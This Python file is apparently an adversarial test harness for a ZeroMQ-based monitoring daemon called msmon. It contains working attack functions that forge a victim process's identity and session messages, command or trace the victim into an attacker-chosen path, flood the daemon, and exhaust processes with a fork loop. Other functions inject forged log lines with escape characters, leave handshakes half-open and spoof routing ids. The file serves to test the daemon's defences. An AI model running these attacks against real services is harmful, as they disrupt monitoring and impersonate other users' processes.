"""Run as ``python attacker.py UID NAME [ARGUMENT…]``: one attack, as a user or with a key.

Each attack is a function below that returns what the daemon said to it. A flood lasts
:data:`FLOOD_S` seconds. The program prints a JSON object: "said", and "sent", the number of
messages (or bare connections) that left this process on a connection that was really open. An
attack that could not take place ends with an exception. UID -1 stays root, for attacks over TCP,
whose endpoint and key come from the environment: ATTACK_URL, ATTACK_KEYS.
"""

from __future__ import annotations

import contextlib
import json
import os
import resource
import socket
import sys
import time
import traceback
from collections.abc import Callable, Iterator
from dataclasses import replace

import zmq
from attacks.as_user import become

from msmon.agent.ranks.this_process import current_process
from msmon.bus import sockets
from msmon.bus.codec import decode, encode
from msmon.bus.endpoints import Endpoint, local_endpoint
from msmon.bus.keys import KeyPair
from msmon.bus.messages import (
    Acknowledged,
    Answer,
    GapReport,
    Goodbye,
    Hello,
    Message,
    MonitorRequest,
    Records,
    Refused,
    Reply,
    Selection,
    SessionClosed,
    SessionNote,
    SessionOpened,
    Status,
    StatusRequest,
    TraceRequest,
    VersionRequest,
    WindowReport,
    WindowsRequest,
)
from msmon.errors import MsmonError
from msmon.sessions import Gap, MonitorSettings, ProcessInfo, SessionEnd

FLOOD_S = 2.0
CONNECT_LIMIT_S = 15.0
SENT = [0]
"""Messages and bare connections so far."""
CONTEXT = zmq.Context()


def endpoint() -> Endpoint:
    if "ATTACK_URL" not in os.environ:
        return local_endpoint(os.environ)
    server, public, secret = (text.encode() for text in os.environ["ATTACK_KEYS"].split())
    return Endpoint(os.environ["ATTACK_URL"], server, KeyPair(public, secret))


class NotConnected(Exception):
    """The daemon did not take the connection in time."""


class Peer:
    """A connection that sends what it likes. It is open when the object has been made."""

    def __init__(self, limit_s: float = CONNECT_LIMIT_S) -> None:
        self.socket, watch = sockets.connect(CONTEXT, endpoint())
        self.socket.setsockopt(zmq.SNDTIMEO, 500)
        end_s = time.monotonic() + limit_s
        while not any(event.state == "connected" for event in watch.events()):
            if time.monotonic() > end_s:
                watch.close()
                self.socket.close()
                raise NotConnected
            watch.socket.poll(100)
        watch.close()

    def close(self) -> None:
        self.socket.close()

    def send(self, message: Message, payload: tuple[bytes, ...] = ()) -> bool:
        return self.send_frames(encode(message, "a", payload))

    def send_frames(self, frames: list[bytes], flags: int = 0) -> bool:
        try:
            self.socket.send_multipart(frames, flags)
        except zmq.Again:
            return False
        SENT[0] += 1
        return True

    def heard(self, limit_s: float = 0.3) -> list[str]:
        """Return what the daemon says within the time, in words."""
        words, end_s = [], time.monotonic() + limit_s
        while self.socket.poll(max(0, int(1000 * (end_s - time.monotonic())))):
            message = decode(self.socket.recv_multipart()).message
            reason = message.reason if isinstance(message, Refused) else ""
            if isinstance(message, Reply):
                reason = "; ".join([message.text, *(row.text for row in message.answer_rows)])
            words.append(f"{message.TYPE} {reason}".strip())
        return words

    def ask(self, message: Message) -> list[str]:
        self.send(message)
        return self.heard()


def own(**changes: object) -> ProcessInfo:
    return replace(current_process(), **changes)


def seconds(limit_s: float = FLOOD_S) -> Iterator[int]:
    """Count until the time is over."""
    end_s, number = time.monotonic() + limit_s, 0
    while time.monotonic() < end_s:
        yield number
        number += 1


# --- claims -----------------------------------------------------------------------------------


def claim(
    pid: str, start_time: str, session_id: str, connect_limit_s: float = CONNECT_LIMIT_S
) -> list[str]:
    """Register as the victim and speak of its session: forge all that an agent can say of it."""
    peer, said = Peer(connect_limit_s), []
    process = own(pid=int(pid), start_time=int(start_time))
    for role in ("agent", "carrier"):
        said += peer.ask(Hello("1", role, process))
    for message in stream_of(session_id):
        peer.send(message)
    said += peer.heard()
    peer.close()
    return said


def keep_claiming(pid: str, start_time: str, session_id: str, limit_s: str) -> list[str]:
    """Do the same again and again; where there is no daemon for a while, go on trying."""
    said, failed = [], 0
    for _ in seconds(float(limit_s)):
        try:
            said += claim(pid, start_time, session_id, 1.0)
        except (MsmonError, NotConnected):
            failed += 1
            time.sleep(0.05)
    return said


def speak_for(session_id: str) -> list[str]:
    """Register as itself, which is right, and speak of the victim's session."""
    peer, said = Peer(), []
    said += peer.ask(Hello("1", "agent", own()))
    for message in stream_of(session_id):
        said += peer.ask(message)
    return said


def stream_of(session_id: str) -> list[Message]:
    """Return one of each message by which somebody could speak in a session."""
    end = SessionEnd(time.time_ns(), "forged")
    return [
        Records(session_id, 10**9 - 2, 3, 1),
        GapReport(session_id, 10**9 - 1, Gap("uplink", 1, 2, {"Kernel": 7}, "forged")),
        SessionNote(session_id, 10**9, "parallel_group_info", "{}"),
        Acknowledged(session_id, 10**9),
        SessionClosed(session_id, 10**9 + 1, end),
        SessionOpened(session_id, 1, MonitorSettings(), time.time_ns()),
        Answer(True, "forged", session_id=session_id),
        Goodbye("forged"),
    ]


def command(pid: str) -> list[str]:
    """Command the victim's process."""
    peer = Peer()
    return [
        *peer.ask(MonitorRequest("stop", {}, Selection(pids=[int(pid)]))),
        *peer.ask(MonitorRequest("update", {"filter": "Kernel:x"}, Selection(pids=[int(pid)]))),
    ]


def order_trace(pid: str, path: str) -> list[str]:
    """Order a trace of the victim's process into a place of the attacker's choice."""
    fields = {"iterations": 1, "log_file": path}
    selection = Selection(pids=[int(pid)])
    return [
        *Peer().ask(TraceRequest("start", fields, selection)),
        *Peer().ask(TraceRequest("cancel", {}, selection)),
    ]


def exhaust_processes() -> list[str]:
    """Make as many processes as the limit allows, and then record with an export."""
    peer = Peer()
    resource.setrlimit(resource.RLIMIT_NPROC, (64, 64))
    end, begin = os.pipe()
    with contextlib.suppress(BlockingIOError):
        while True:
            if os.fork() == 0:
                os.close(begin)
                os.read(end, 1)  # until the attacker has ended
                os._exit(0)
    said = peer.ask(Hello("1", "agent", own()))
    for number in seconds():
        settings = MonitorSettings(log_file="/tmp", kinds="Kernel")
        said += peer.ask(SessionOpened(f"{number:032x}", 1, settings, time.time_ns()))
    return said[:20]


# --- floods -----------------------------------------------------------------------------------


def flood_hellos() -> list[str]:
    """Register one process after the other."""
    peers = [Peer() for _ in range(8)]
    for number in seconds():
        process = own(pid=number, container="", host=f"node{number}")
        peers[number % 8].send(Hello("1", "agent", process))
    return [word for peer in peers for word in peer.heard(0.1)][:20]


def flood_sessions() -> list[str]:
    """Open one session after the other."""
    peer = Peer()
    said = peer.ask(Hello("1", "agent", own()))
    for number in seconds():
        peer.send(SessionOpened(f"{number:032x}", 1, MonitorSettings(), time.time_ns()))
    return [*said, *peer.heard(0.1)][:20]


def flood_notes() -> list[str]:
    """Open a session and send large notes without waiting for an acknowledgement."""
    peer = Peer()
    said = peer.ask(Hello("1", "agent", own()))
    said += peer.ask(SessionOpened("n" * 32, 1, MonitorSettings(), time.time_ns()))
    text = b"x" * (1 << 20)
    for number in seconds():
        peer.send(SessionNote("n" * 32, number + 2, "note", ""), (text,))
    return [*said, *peer.heard(0.1)][:20]


def flood_heartbeats() -> list[str]:
    return _flood(Status("idle", settings={"filter": "x" * 1000}))


def flood_requests() -> list[str]:
    """Send commands that wait long, and questions."""
    return _flood(MonitorRequest("stop", {}, Selection(), 600.0))


def flood_status() -> list[str]:
    return _flood(StatusRequest(Selection(ranks=list(range(5000)))))


def flood_windows() -> list[str]:
    """Fill what is kept of recent windows, then ask for them again and again and read nothing."""
    peer = Peer()
    said = peer.ask(Hello("1", "agent", own()))
    said += peer.ask(SessionOpened("w" * 32, 1, MonitorSettings(), time.time_ns()))
    frames = (b"", bytes(1 << 20), b"")
    for number in seconds(FLOOD_S / 2):
        peer.send(WindowReport("w" * 32, number + 2, number, 1, 2), frames)
    question = encode(WindowsRequest(most_bytes=1 << 30), "a")
    askers = [Peer() for _ in range(20)]
    for number in seconds():
        askers[number % len(askers)].send_frames(question, zmq.NOBLOCK)
    return [*said, *peer.heard(0.1), *askers[0].heard(0.1)][:20]


def ask_windows() -> list[str]:
    """Ask for recent windows again and again, and read nothing."""
    return _flood(WindowsRequest(most_bytes=1 << 30), 20)


def flood_versions() -> list[str]:
    return _flood(VersionRequest())


def flood_refused() -> list[str]:
    """Send commands that are refused, with as much text as fits."""
    return _flood(MonitorRequest("x", {"filter": "y" * 900}, Selection(pids=list(range(5000)))))


def _flood(message: Message, connections: int = 4) -> list[str]:
    peers = [Peer() for _ in range(connections)]
    said = [word for peer in peers for word in peer.ask(Hello("1", "agent", own()))]
    frames = encode(message, "a")
    for number in seconds():
        peers[number % connections].send_frames(frames, zmq.NOBLOCK)
    return [*said, *(word for peer in peers for word in peer.heard(0.1))][:20]


def flood_rubbish() -> list[str]:
    peer = Peer()
    for number in seconds():
        frame = os.urandom(200) if number % 2 else b"\x81\xa1v" + b"\x91" * 60_000
        peer.send_frames([frame] * 3, zmq.NOBLOCK)
    return peer.heard(0.1)[:20]


def huge_messages() -> list[str]:
    """Send records that are as large as a frame may be."""
    peer = Peer()
    said = peer.ask(Hello("1", "agent", own()))
    frame = bytes(16 << 20)
    for number in seconds():
        peer.send(SessionNote("h", number, "note", ""), (frame,) * 8)
    return [*said, *peer.heard(0.1)][:20]


def forge_log_lines() -> list[str]:
    """Say hello with a name that would begin a line of the daemon's log."""
    host = "node\n2026-01-01 00:00:00 WARNING msmon.forged\x1b[2J\u202e"
    return Peer().ask(Hello("1", "agent", own(host=host)))


def connect_many() -> list[str]:
    """Open connections without a word, as fast as can be."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    family, address = _address()
    kept = []
    for _ in seconds():
        one = socket.socket(family)
        one.settimeout(0.5)
        try:
            one.connect(address)
        except OSError:
            one.close()
            continue
        SENT[0] += 1
        if len(kept) < most - 100:
            kept.append(one)
    return []


def half_handshakes() -> list[str]:
    """Begin the handshake on many connections and stop in the middle."""
    family, address = _address()
    greeting = b"\xff" + bytes(8) + b"\x7f\x03\x01CURVE" + bytes(15) + b"\x00" + bytes(31)
    kept = []
    for _ in range(400):
        one = socket.socket(family)
        one.settimeout(0.5)
        with contextlib.suppress(OSError):
            one.connect(address)
            one.sendall(greeting)
            SENT[0] += 1
        kept.append(one)
    time.sleep(FLOOD_S)
    return []


def _address() -> tuple[int, object]:
    url = endpoint().url
    if url.startswith("ipc://"):
        return socket.AF_UNIX, url[len("ipc://") :]
    host, _, port = url[len("tcp://") :].rpartition(":")
    return socket.AF_INET, (host, int(port))


def claim_routing_ids() -> list[str]:
    """Connect again and again under routing ids of the form that the ROUTER makes itself."""
    end = endpoint()
    dealers = []
    for number in range(60):
        dealer = CONTEXT.socket(zmq.DEALER)
        dealer.setsockopt(zmq.LINGER, 0)
        dealer.curve_serverkey = end.server_public_key
        dealer.curve_publickey, dealer.curve_secretkey = (
            end.client_keys.public,
            (end.client_keys.secret),
        )
        dealer.routing_id = b"\0" + number.to_bytes(4, "big") if number % 2 else b"victim"
        dealer.connect(end.url)
        dealer.send_multipart(encode(VersionRequest(), "a"))
        dealers.append(dealer)
    time.sleep(1.0)
    SENT[0] += len(dealers)
    return []


ATTACKS: dict[str, Callable[..., list[str]]] = {
    function.__name__: function
    for function in (
        *(claim, keep_claiming, speak_for, command, order_trace, exhaust_processes),
        *(flood_hellos, flood_sessions, flood_notes),
        *(flood_heartbeats, flood_requests, flood_status, flood_versions, flood_refused),
        *(flood_rubbish, huge_messages, forge_log_lines, connect_many, half_handshakes),
        *(claim_routing_ids, flood_windows, ask_windows),
    )
}


if __name__ == "__main__":
    uid, name, *arguments = sys.argv[1:]
    if int(uid) >= 0:
        become(int(uid))
    try:
        words = ATTACKS[name](*arguments)
        print(json.dumps({"said": words, "sent": SENT[0]}), flush=True)
    except BaseException:  # noqa: BLE001 - said here, because ZeroMQ could wait at the end
        traceback.print_exc()
        os._exit(1)
    os._exit(0)
